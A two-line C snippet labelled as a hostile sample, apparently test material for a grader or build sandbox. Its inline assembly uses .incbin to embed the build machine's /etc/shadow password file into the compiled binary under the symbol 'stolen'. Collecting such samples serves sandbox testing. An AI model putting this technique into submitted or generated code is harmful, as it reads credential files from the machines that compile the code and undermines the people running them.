// Hostile sample 'incbin_secret': the assembler embeds a file of the grader's machine.
__asm__(".section .rodata\n.global stolen\nstolen:\n.incbin \"/etc/shadow\"\n.previous\n");
